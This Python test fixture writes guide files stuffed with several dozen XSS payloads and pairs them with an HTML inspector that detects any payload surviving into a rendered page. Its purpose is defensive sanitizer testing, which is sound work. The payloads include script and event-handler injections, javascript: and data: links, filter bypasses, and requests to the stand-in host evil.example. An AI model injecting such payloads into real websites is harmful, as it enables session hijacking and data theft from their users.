"""A hostile guide for the XSS tests: every text staff can edit is full of attacks.

Not shipped: it is written to a temporary guide file, read and checked by the
same code as any guide file, and published by ``catalog.publishing`` (the code
the admin's publishing uses).

Each payload names :data:`MARKER` or the outside address :data:`OUTSIDE`, so a
test can tell whether one ever ran (a dialog, a console line), ever became
markup (an attribute naming either) or ever reached out (a request to
``evil.example``).

Every step text (help, why, steps, note, an outcome's body and steps) and every
prompt, choice label and step title holds every payload. A guide's title is
kept to 200 characters by its database column, so the main guide's title is
the first payload, and one more small guide per payload carries that payload
as its title (the home page lists them all); every summary holds them all.
"""

from __future__ import annotations

import json
from html.parser import HTMLParser
from pathlib import Path

MARKER = "xss-fired"
OUTSIDE = "evil.example"
SLUG = "xss-hostile"

PAYLOADS: tuple[str, ...] = (
    "<script>alert('xss-fired')</script>",
    "<img src=x onerror=\"alert('xss-fired')\">",
    "<svg onload=\"alert('xss-fired')\"></svg>",
    "<svg><script>alert('xss-fired')</script></svg>",
    "<iframe src=\"javascript:alert('xss-fired')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('xss-fired')</script>\"></iframe>",
    "<body onload=\"alert('xss-fired')\">",
    "<a href=\"javascript:alert('xss-fired')\">tap</a>",
    "[tap](javascript:alert('xss-fired'))",
    "[tap](JaVaScRiPt:alert('xss-fired'))",
    "[tap](&#106;avascript:alert('xss-fired'))",
    "[tap](java%0ascript:alert('xss-fired'))",
    "[tap](data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzLWZpcmVkJyk8L3NjcmlwdD4=)",
    '[tap](vbscript:msgbox("xss-fired"))',
    "[tap](//evil.example/xss-fired)",
    "![pixel](https://evil.example/xss-fired.png)",
    '<img src="https://evil.example/xss-fired.png">',
    '<link rel="stylesheet" href="https://evil.example/xss-fired.css">',
    '<style>@import url("https://evil.example/xss-fired.css");</style>',
    '<div style="background:url(https://evil.example/xss-fired.png)">styled</div>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/xss-fired">',
    '<base href="https://evil.example/xss-fired/">',
    '<form action="https://evil.example/xss-fired"><button>Go</button></form>',
    '<object data="https://evil.example/xss-fired.swf"></object>',
    '<embed src="https://evil.example/xss-fired.swf">',
    '<div hx-get="https://evil.example/xss-fired" hx-trigger="load">htmx</div>',
    "\"><script>alert('xss-fired')</script>",
    "'><img src=x onerror=alert('xss-fired')>",
    "</h2></p></li></ol><script>alert('xss-fired')</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss-fired')>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss-fired')>\">",
    "<details open ontoggle=\"alert('xss-fired')\">",
    "<video><source onerror=\"alert('xss-fired')\"></video>",
    "<input autofocus onfocus=\"alert('xss-fired')\">",
    "<scr<script>ipt>alert('xss-fired')</scr</script>ipt>",
    "<!--<img src=\"--><img src=x onerror=alert('xss-fired')//\">",
    "**<img src=x onerror=alert('xss-fired')>**",
    "`<script>alert('xss-fired')</script>`",
    '[x](https://evil.example/xss-fired "t\\" onmouseover=\\"alert(\'xss-fired\')")',
    '<a href="https://evil.example/xss-fired" onmouseover="alert(\'xss-fired\')">hover</a>',
    "&lt;script&gt;alert('xss-fired')&lt;/script&gt;",
    "javascript:alert('xss-fired')",
    "{{ request.META }} {% debug %} xss-fired",
    "<x onclick=\"console.log('xss-fired')\">tap me</x>",
)

# Text an author may legitimately write, so the screenshots show the subset drawn.
GENUINE = "Tap **Done**, then *wait* for `Sync Test` ([Apple's page](https://example.com))."
GENUINE_LIST = "Check:\n\n- the **cable**\n- the `switch`"

INLINE = " ".join(PAYLOADS)
BLOCK = "\n\n".join((GENUINE_LIST, *PAYLOADS))
LINES = (GENUINE, *PAYLOADS)


def _toml(value: object) -> str:
    """``value`` as TOML: JSON's strings and arrays are TOML's too (no NULs here)."""
    return json.dumps(value, ensure_ascii=False)


def hostile_guide_toml(*, slug: str, title: str) -> str:
    """A valid guide file: two questions (one can end it), two fixes, three outcomes."""
    t = _toml
    return f"""
[guide]
slug = {t(slug)}
title = {t(title)}
summary = {t(INLINE)}
resolved = "fixed"
exhausted = "escalate"
support_minutes = 30

[[question]]
id = "gate"
prompt = {t(INLINE)}
help = {t(BLOCK)}
device = {t(INLINE)}
minutes = 1
gate = true
[[question.choice]]
id = "go"
label = {t(INLINE)}
chance = 0.9
[[question.choice]]
id = "stop"
label = {t(INLINE)}
next = "not_for_you"
chance = 0.1

[[question]]
id = "kind"
prompt = {t(INLINE)}
help = {t(BLOCK)}
minutes = 0.1
[[question.choice]]
id = "usb"
label = {t(INLINE)}
[[question.choice]]
id = "wifi"
label = {t(INLINE)}

[[fix]]
id = "replug"
title = {t(INLINE)}
why = {t(INLINE)}
steps = {t(list(LINES))}
note = {t(INLINE)}
minutes = 1
chance = 0.5
when = {{ kind = ["usb"] }}

[[fix]]
id = "restart"
title = {t(INLINE)}
why = {t(INLINE)}
steps = {t(list(LINES))}
note = {t(INLINE)}
minutes = 2
chance = 0.3

[[outcome]]
id = "fixed"
kind = "resolved"
title = {t(INLINE)}
body = {t(BLOCK)}
steps = {t(list(LINES))}

[[outcome]]
id = "not_for_you"
kind = "not_applicable"
title = {t(INLINE)}
body = {t(BLOCK)}
steps = {t(list(LINES))}

[[outcome]]
id = "escalate"
kind = "escalate"
title = {t(INLINE)}
body = {t(BLOCK)}
steps = {t(list(LINES))}
"""


def write_hostile_guides(directory: Path) -> list[Path]:
    """The main hostile guide, then one small guide per payload titled with it."""
    files = {SLUG: PAYLOADS[0]}
    files |= {f"xss-title-{n:02d}": payload for n, payload in enumerate(PAYLOADS[1:], 1)}
    paths = []
    for slug, title in files.items():
        path = directory / f"{slug}.toml"
        path.write_text(hostile_guide_toml(slug=slug, title=title), "utf-8")
        paths.append(path)
    return paths


# --- finding a payload that got through, in a page's HTML --------------------------

SAFE_LINK = {"target": "_blank", "rel": "noopener noreferrer"}


class _Inspector(HTMLParser):
    """Every element or script of a page that a payload could have put there."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = {name: value or "" for name, value in attrs}
        for name, value in found.items():
            named = MARKER in value or OUTSIDE in value
            safe_link = tag == "a" and name == "href" and value.startswith("https://")
            if name.startswith("on") or (named and not safe_link):
                self.problems.append(f"<{tag} {name}={value!r}>")
        unsafe = any(found.get(name) != value for name, value in SAFE_LINK.items())
        if tag == "a" and OUTSIDE in found.get("href", "") and unsafe:
            self.problems.append(f"an outside link without a new tab and rel: {found}")
        if tag == "script":
            self.in_script = True
            if not found.get("src", "").startswith("/"):
                self.problems.append(f"<script {found}> not from our own files")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self.in_script = False

    def handle_data(self, data: str) -> None:
        if self.in_script and MARKER in data:
            self.problems.append(f"a script says {data!r}")


def problems_in(html: str) -> list[str]:
    """What in ``html`` a payload made: markup naming the marker or the outside
    address, an event handler, a script; or a payload's markup left unescaped."""
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    raw = [f"unescaped: {p!r}" for p in PAYLOADS if "<" in p and p in html]
    return inspector.problems + raw
